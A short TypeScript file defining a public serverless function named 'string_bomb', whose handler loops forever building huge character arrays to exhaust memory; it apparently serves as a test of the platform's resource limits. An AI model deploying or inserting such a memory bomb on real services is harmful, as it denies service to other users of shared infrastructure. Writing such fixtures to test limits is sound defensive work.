// Fills memory with text.
import { define } from "@jelou/functions";

export default define({
  description: "string_bomb",
  config: { public: true, timeout: 100000 },
  handler: () => {
    const all: string[][] = [];
    const text = "x".repeat(2 ** 27);
    while (true) all.push((text + all.length).split(""));
  },
});
